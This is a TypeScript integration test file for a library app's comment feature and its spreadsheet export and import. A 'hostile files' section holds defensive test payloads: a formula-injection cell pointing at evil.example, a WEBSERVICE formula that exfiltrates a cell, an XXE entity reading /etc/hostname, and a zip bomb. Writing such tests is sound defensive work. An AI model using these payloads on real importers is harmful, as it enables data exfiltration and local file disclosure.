/** Comments through the door: a comment on a block, its disposition and the notice, and the table as a spreadsheet, out and in; hostile files. */
import { randomUUID } from 'node:crypto';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { sql } from 'kysely';
import writeXlsx from 'write-excel-file/node';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeComment } from '#domains/library/comments/make-comment.server.ts';
import { viewComments } from '#domains/library/comments/list-view.server.ts';
import { requestParts } from '#domains/library/comments/request-parts.server.ts';
import { openChangeRequest } from '#domains/library/open-change-request.server.ts';
import { updateChangeRequest } from '#domains/library/update-change-request.server.ts';
import { parseFilters } from '#domains/library/comments/model.ts';
import { planSheet } from '#domains/library/comments/plan-sheet.server.ts';
import { listComments } from '#domains/library/comments/queries.server.ts';
import { readSheetFile, ROWS_LIMIT } from '#domains/library/comments/read-sheet.server.ts';
import { as } from '#platform/database/open.server.ts';
import { closePools } from '#platform/database/pool.server.ts';
import { type Cast, cast, type Name } from '../support/cast.ts';
import { type FreshDatabase, freshDatabase } from '../support/database.ts';
import { type Hub, openHub, Visitor } from '../support/hub.ts';
import { ownKeys } from '../support/keys.ts';
import { controlText, type MadeSpace, makeSpace, pageText } from '../support/space.ts';

let db: FreshDatabase;
let c: Cast;
let hub: Hub;
let space: MadeSpace;
const browser = {} as Record<Name, Visitor>;

beforeAll(async () => {
  db = await freshDatabase();
  await ownKeys(db.owner);
  c = await cast(db);
  space = await makeSpace('rules', 1, {
    swaps: pageText(
      'SIM swaps',
      'The operator checks who asks.',
      controlText('check', 'Check identity', 'Before every swap.', 'gitbook:10.1'),
      controlText('record', 'Keep a record', 'Of every swap.', 'gitbook:8.9'),
    ),
    lines: pageText('Lines', 'Lines are watched.', controlText('watch', 'Watch lines', 'At all times.', 'gitbook:8.9')),
  });
  hub = await openHub();
  for (const who of ['amina', 'jonas', 'pita', 'karim', 'noor', 'eve'] as const) {
    browser[who] = new Visitor(hub.base);
    browser[who].cookies.set('indaba', (await c.signIn(who)).cookie);
  }
}, 120_000);
afterAll(async () => {
  await hub?.close();
  await closePools();
  await db?.drop();
});

const all = (who: Name) => as(c.as(who), (tx) => listComments(tx, space.id, { filters: parseFilters({}) }));
const sheet = async (...rows: string[][]): Promise<Buffer> => writeXlsx(rows.map((row) => row.map((value) => ({ type: String, value })))).toBuffer();
const HEAD = ['Member', 'Place', 'Type', 'Comment', 'Proposed change', 'Observation'];
const send = (who: Name, act: 'look' | 'take', bytes: Uint8Array) =>
  fetch(`${hub.base}/library/rules/comments/import?/${act}`, {
    method: 'POST',
    headers: { cookie: `indaba=${browser[who].cookies.get('indaba')}`, origin: hub.base, accept: 'text/html' },
    body: (() => {
      const form = new FormData();
      form.set('sheet', new Blob([new Uint8Array(bytes)]), 'comments.xlsx');
      return form;
    })(),
  }).then(async (response) => ({ status: response.status, text: await response.text() }));

test('without script: from the link beside a paragraph to a comment, shown on the page and in the table, disposed of, and its maker told', async () => {
  const page = await browser.amina.get('/library/rules/swaps');
  expect(page.text).toContain('/library/rules/comments/new?page=swaps');
  const part = /talk\?part=([0-9a-z]{8})/.exec(page.text)![1]!;
  expect((await browser.amina.get(`/library/rules/swaps/talk?part=${part}`)).text).toContain(`/library/rules/comments/new?page=swaps&amp;part=${part}`);
  const form = { part, kind: 'technical', quote: 'who asks', body: 'Say how.', proposed: 'who asks, by two kinds of proof', retry_key: randomUUID() };
  const kept = await browser.amina.post('/library/rules/comments/new?page=swaps', { ...form, body: ' ' });
  expect(kept.text).toContain('who asks, by two kinds of proof');
  const made = await browser.amina.post('/library/rules/comments/new?page=swaps', form);
  expect(made.status).toBe(303);
  const address = made.headers.get('location')!.replace(/\?.*/, '');
  // Sent twice, it is there once.
  expect((await browser.amina.post('/library/rules/comments/new?page=swaps', form)).headers.get('location')).toContain(address);
  expect((await browser.pita.get('/library/rules/swaps')).text).toContain('1 comment waits');
  const table = (await browser.pita.get('/library/rules/comments?kind=technical&page=swaps&state=open&disposition=none')).text;
  expect(table).toContain('who asks, by two kinds of proof');
  expect((await browser.pita.get('/library/rules/comments?kind=editorial')).text).not.toContain('two kinds of proof');
  expect((await browser.pita.get(address)).text).not.toContain('?/dispose');

  const shown = (await browser.noor.get(address)).text;
  expect(shown).toContain('?/dispose');
  const decide = { disposition: 'in_part', reason: '', answered_by: '', version: '0', retry_key: randomUUID() };
  expect((await browser.noor.post(`${address}?/dispose`, decide)).text).toContain('needs a reason');
  expect((await browser.noor.post(`${address}?/dispose`, { ...decide, reason: 'The first kind only.' })).status).toBe(303);
  expect((await browser.amina.get(address)).text).toContain('The first kind only.');
  const stale = await browser.noor.post(`${address}?/dispose`, { ...decide, disposition: 'accepted', reason: 'Kept words', retry_key: randomUUID() });
  expect(stale.status).toBe(409);
  expect(stale.text).toContain('Kept words');
  expect(stale.text).toContain('The first kind only.');
  await as({ kind: 'clerk' }, (tx) => sql`select app.tell()`.execute(tx));
  const told = await as(c.as('amina'), (tx) =>
    sql`select from app.notices n join app.messages m on m.id = n.message_id where m.body like '%The first kind only.%'`.execute(tx),
  );
  expect(told.rows).toHaveLength(1);
  expect((await browser.amina.post(`${address}?/close`, { closed: 'yes' })).status).toBe(303);
  expect((await browser.pita.get('/library/rules/comments?state=closed')).text).toContain('Closed by its author');
});

test('a comment on a request leaves its discussion one thread', async () => {
  const visitor = await new Visitor(hub.base).get('/library/rules/comments');
  expect(visitor.status).toBe(303);
  const page = await browser.amina.get('/changes/rules/1');
  expect(page.text).toContain('/library/rules/comments/new?request=1');
  const made = await browser.amina.post('/library/rules/comments/new?request=1', { kind: 'general', body: 'As a whole.', retry_key: randomUUID() });
  expect(made.status).toBe(303);
  expect((await browser.pita.post('/changes/rules/1?/post', { body: 'Talk beside it.', retry_key: randomUUID() })).status).toBe(303);
  expect((await browser.jonas.get('/changes/rules/1')).text).toContain('Talk beside it.');
  const one = (await all('jonas')).find((each) => each.subject_kind === 'change_request')!;
  expect(one.messages).toBe(1);
  expect((await browser.jonas.get(`/threads/${one.id}`)).headers.get('location')).toContain(`/library/rules/comments/${one.id}`);
});

describe('the table as a spreadsheet', () => {
  test('a filled template becomes comments: first shown, then taken, and nothing the second time', async () => {
    const before = (await all('jonas')).length;
    const file = await sheet(
      ['Comments on the rules', '', ''],
      ['MB/NC', 'Clause/Subclause', 'Type of comment', 'Comments', 'Proposed change', 'Observations of the secretariat'],
      ['', '10.1', 'te', '=HYPERLINK("http://evil.example","x")', '+1', ''],
      ['', '8.9', 'ed', 'Which of them?', '', ''],
      ['', 'record', 'ed', 'This one.', '', ''],
      ['Central Bank of Lumaria', 'SIM swaps', '', 'Of the page.', '', ''],
      ['Sandoria', 'SIM swaps', 'ge', 'Not mine to say.', '', ''],
      ['', 'Nowhere', 'ge', 'Lost.', '', ''],
      ['', 'SIM swaps', 'angry', 'Loud.', '', ''],
      ['', 'SIM swaps', 'ge', '', 'Only a proposal', ''],
      ['', 'record', 'ed', 'This one.', '', ''],
      ['', '', '', '', '', ''],
    );
    const looked = await send('jonas', 'look', file);
    expect(looked.text).toContain('Rows: 9. New comments: 3. Dispositions: 0. Here already: 0. Not taken: 6.');
    for (const why of [
      'Several things are called like this',
      'speaks for another member',
      'Nothing here is called',
      'ge, te or ed',
      'holds no comment',
      'in the table twice',
    ])
      expect(looked.text).toContain(why);
    expect(await all('jonas')).toHaveLength(before);
    const kept = /name="kept" value="([^"]+)"/.exec(looked.text)![1]!;
    expect((await browser.jonas.post('/library/rules/comments/import?/take', { kept })).text).toContain('New comments: 3. Dispositions: 0. Here already: 0.');
    expect((await send('jonas', 'take', file)).text).toContain('New comments: 0. Dispositions: 0. Here already: 3.');
    const mine = (await all('jonas')).slice(before);
    expect(mine.map(({ kind, control_title, page_title, body, proposed }) => [kind, control_title ?? page_title, body, proposed])).toEqual([
      ['technical', 'Check identity', '=HYPERLINK("http://evil.example","x")', '+1'],
      ['editorial', 'Keep a record', 'This one.', ''],
      ['general', 'SIM swaps', 'Of the page.', ''],
    ]);
    // A guest reads what is public and takes part nowhere there; Eve likewise.
    for (const who of ['karim', 'eve'] as const)
      expect((await send(who, 'take', await sheet(HEAD, ['', 'SIM swaps', 'ge', 'Mine.', '', '']))).text).toContain('not comment on it');
  });

  test('what goes out is text in every cell, and comes back as nothing new; an observation filled in comes back as a disposition', async () => {
    const response = await fetch(`${hub.base}/library/rules/comments/sheet`, { headers: { cookie: `indaba=${browser.noor.cookies.get('indaba')}` } });
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect(response.headers.get('content-disposition')).toContain('comments-rules.xlsx');
    const parts = Object.entries(unzipSync(bytes)).map(([name, part]) => [name, Buffer.from(part).toString()] as const);
    for (const [name, text] of parts) expect([name, /<f[ >]|externalLink/.test(text)]).toEqual([name, false]);
    const { rows } = await readSheetFile(bytes);
    expect(rows.map(({ comment }) => comment)).toContain('=HYPERLINK("http://evil.example","x")');
    const plan = (name: Name, of = rows) => as(c.as(name), (tx) => planSheet(tx, { id: space.id, slug: 'rules' }, of));
    for (const name of ['noor', 'jonas'] as const) expect((await plan(name)).map(({ act }) => act)).toEqual(rows.map(() => 'there'));
    // Without its reference a row is a comment like any other: there for who made it.
    const [one] = rows.filter(({ comment }) => comment === 'This one.');
    expect(await plan('jonas', [{ ...one!, reference: '' }])).toMatchObject([{ act: 'there' }]);
    const said = [{ ...one!, observation: 'Not accepted: it is said in 10.1 already.' }];
    expect(await plan('jonas', said)).toMatchObject([{ act: 'not', why: 'library.comment.may_not_dispose' }]);
    expect(await plan('noor', [{ ...one!, observation: 'Not accepted' }])).toMatchObject([{ why: 'library.comment.reason_missing' }]);
    expect(await plan('noor', [{ ...one!, observation: 'Perhaps' }])).toMatchObject([{ why: 'library.sheet.observation_unknown' }]);
    expect(await plan('noor', said)).toMatchObject([{ act: 'dispose' }]);
    const filled = await sheet([...HEAD, 'Words meant', 'Reference'], ['', '', '', '', '', said[0]!.observation, '', one!.reference]);
    expect((await send('noor', 'take', filled)).text).toContain('New comments: 0. Dispositions: 1.');
    expect((await all('jonas')).find(({ body }) => body === 'This one.')).toMatchObject({
      disposition: 'not_accepted',
      reason: 'it is said in 10.1 already.',
      disposer: 'Noor',
    });
    expect((await send('noor', 'take', filled)).text).toContain('Here already: 1.');
    expect(await plan('eve')).toMatchObject(rows.map(() => ({ act: 'not', why: 'library.sheet.reference_unknown' })));
  });

  test('what was taken back or stands under a higher label is in no sheet', async () => {
    const ours = await makeSpace('ours', c.audience.circle, { lines: pageText('Lines', 'Lines are watched.') });
    const made = await as(c.as('amina'), (tx) =>
      makeComment(tx, {
        subject: { kind: 'page', id: ours.pages['lines']! },
        kind: 'general',
        body: 'Quokkas.',
        proposed: 'Wombats.',
        retry_key: randomUUID(),
      }),
    );
    const words = async () => {
      const response = await fetch(`${hub.base}/library/ours/comments/sheet`, { headers: { cookie: `indaba=${browser.jonas.cookies.get('indaba')}` } });
      return JSON.stringify((await readSheetFile(new Uint8Array(await response.arrayBuffer()))).rows);
    };
    expect(await words()).toContain('Wombats.');
    expect((await browser.eve.get('/library/ours/comments/sheet')).status).toBe(404);
    await c.behind(`update app.conversations set ceiling = 'TLP:AMBER' where id = (select conversation_id from app.threads where id = $1)`, [made.thread_id]);
    expect(await words()).not.toMatch(/Wombats|Quokkas/);
    await c.behind(`update app.messages set marking = 'TLP:GREEN' where id = $1`, [made.id]);
    expect(await words()).toContain('Quokkas.');
    await c.behind(`update app.messages set body = '', deleted_at = now(), moderated_as = 'rules' where id = $1`, [made.id]);
    expect(await words()).not.toMatch(/Wombats|Quokkas/);
    expect((await browser.jonas.get('/library/ours/comments')).text).not.toMatch(/Wombats|Quokkas/);
  });
});

describe('hostile files', () => {
  const refusal = (bytes: Uint8Array) =>
    readSheetFile(bytes).then(
      () => 'read',
      (error: { code?: string }) => error.code ?? String(error),
    );

  test('too large, no spreadsheet, a bomb, too many parts, broken, no headings', async () => {
    expect(await refusal(new Uint8Array(1_500_001))).toBe('library.sheet.too_large');
    expect(await refusal(strToU8('Member,Place,Comment'))).toBe('library.sheet.not_xlsx');
    expect(await refusal(new Uint8Array())).toBe('library.sheet.not_xlsx');
    expect(await refusal(zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(20_000_000) }))).toBe('library.sheet.unpacks');
    expect(await refusal(zipSync(Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`p${i}.xml`, strToU8('<a/>')]))))).toBe('library.sheet.unpacks');
    expect(await refusal(zipSync({ 'a.txt': strToU8('nothing') }))).toBe('library.sheet.not_xlsx');
    const good = await sheet(HEAD, ['', '10.1', 'te', 'Words', '', '']);
    expect(await refusal(good.subarray(0, good.length / 2))).toBe('library.sheet.not_xlsx');
    expect(await refusal(await sheet(['One', 'Two'], ['a', 'b']))).toBe('library.sheet.columns');
  });

  test('a formula is the value it had, an outside link is not followed, an entity is not expanded', async () => {
    const parts = unzipSync(new Uint8Array(await sheet(HEAD, ['', '10.1', 'te', 'CELL', '', ''])));
    const name = Object.keys(parts).find((each) => /worksheets\/sheet1\.xml$/.test(each))!;
    const xml = Buffer.from(parts[name]!).toString();
    const cell = /<c r="D2"[^>]*>.*?<\/c>/s.exec(xml)![0];
    const formula = '<c r="D2" t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>as it was</v></c>';
    const repacked = (text: string) => zipSync({ ...parts, [name]: strToU8(text), 'xl/externalLinks/externalLink1.xml': strToU8('<externalLink/>') });
    expect((await readSheetFile(repacked(xml.replace(cell, formula)))).rows).toMatchObject([{ comment: 'as it was', row: 2 }]);
    const entity = xml
      .replace(/<worksheet/, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><worksheet')
      .replace(cell, '<c r="D2" t="inlineStr"><is><t>&e;</t></is></c>');
    const read = await readSheetFile(repacked(entity)).catch(() => ({ rows: [] }));
    expect(JSON.stringify(read.rows)).not.toMatch(/root|localhost|\/etc/);
  });

  test('a hundred thousand rows: the first are read, and it says how many were not', async () => {
    const line = (n: number) => `<row r="${n}"><c r="B${n}" t="inlineStr"><is><t>x</t></is></c></row>`;
    const parts = unzipSync(new Uint8Array(await sheet(HEAD, ['', '10.1', 'te', 'Words', '', ''])));
    const name = Object.keys(parts).find((each) => /worksheets\/sheet1\.xml$/.test(each))!;
    const xml = Buffer.from(parts[name]!).toString();
    const many = xml.replace('</sheetData>', `${Array.from({ length: 100_000 }, (_, i) => line(i + 3)).join('')}</sheetData>`).replace(/<dimension[^>]*>/, '');
    const read = await readSheetFile(zipSync({ ...parts, [name]: strToU8(many) }));
    expect([read.rows.length, read.beyond, read.rows.at(-1)!.row]).toEqual([ROWS_LIMIT, 100_001 - ROWS_LIMIT, ROWS_LIMIT + 1]);
  });
});

test('a comment on words that a request asks for hangs on their part, and follows the request through its later words', async () => {
  const base = await as(c.as('jonas'), (tx) =>
    tx
      .selectFrom('app.pages as p')
      .innerJoin('app.revisions as r', 'r.id', 'p.revision_id')
      .select(['p.id', 'r.id as revision', 'r.text'])
      .where('p.id', '=', space.pages['swaps']!)
      .executeTakeFirstOrThrow(),
  );
  const asks = (sentence: string, added: string) => `${base.text.replace('The operator checks who asks.', sentence)}\n${added}\n`;
  const page = { page_id: base.id, base_revision_id: base.revision, path: 'swaps', retires: [] };
  const request = await as(c.as('jonas'), (tx) =>
    openChangeRequest(tx, {
      space_id: space.id,
      title: 'Two proofs',
      reason: 'One is copied',
      retry_key: randomUUID(),
      byline_id: c.byline.jonas,
      pages: [
        {
          ...page,
          action: 'edit',
          parent_path: null,
          position: null,
          text: asks('The operator checks who asks by two proofs.', 'Whoever watches keeps a book of what they saw.'),
        },
      ],
    }),
  );
  const reword = (sentence: string, added: string) =>
    as(c.as('jonas'), (tx) => updateChangeRequest(tx, { id: request.id, byline_id: c.byline.jonas, page: { ...page, text: asks(sentence, added) } }));
  const parts = await as(c.as('amina'), (tx) => requestParts(tx, request.id));
  expect(parts.map(({ words }) => words)).toEqual(['The operator checks who asks by two proofs.', 'Whoever watches keeps a book of what they saw.']);
  // The part that was there keeps the id of its page.
  const own = await as(c.as('amina'), (tx) => tx.selectFrom('app.revisions').select('blocks').where('id', '=', base.revision).executeTakeFirstOrThrow());
  expect((own.blocks as { id: string }[]).map(({ id }) => id)).toContain(parts[0]!.id);
  const say = (block: string, quote: string) =>
    as(c.as('amina'), (tx) =>
      makeComment(tx, { subject: { kind: 'change_request', id: request.id }, block, quote, kind: 'technical', body: 'Who pays?', retry_key: randomUUID() }),
    );
  const made = [await say(parts[0]!.id, 'by two proofs'), await say(parts[1]!.id, 'keeps a book of what they saw')];
  await expect(say('zzzzzzzz', 'x')).rejects.toMatchObject({ code: 'library.comment.block_unknown' });
  const states = async () => {
    const found = await as(c.as('pita'), async (tx) => viewComments(tx, 'rules', await listComments(tx, space.id, { filters: parseFilters({}) })));
    return made.map(({ thread_id }) => found.find(({ id }) => id === thread_id)!).map(({ state, href }) => [state, href.includes('#b-')]);
  };
  expect(await states()).toEqual([
    ['there', true],
    ['there', true],
  ]);
  await reword('The operator always checks who asks by two proofs.', 'By name: whoever watches a line keeps a book of what they saw.');
  expect((await states()).map(([state]) => state)).toEqual(['there', 'moved']);
  await reword('The operator checks who asks, and how.', 'Nothing is written down.');
  expect((await states()).map(([state]) => state)).toEqual(['words_gone', 'place_gone']);
  // The form offers the parts it would change, and the page marks them for the script.
  const form = await browser.amina.get(`/library/rules/comments/new?request=${request.number}`);
  expect(form.text).toContain('Nothing is written down.');
  expect((await browser.amina.get(`/changes/rules/${request.number}`)).text).toMatch(new RegExp(`data-part="${parts[0]!.id}"`));
});
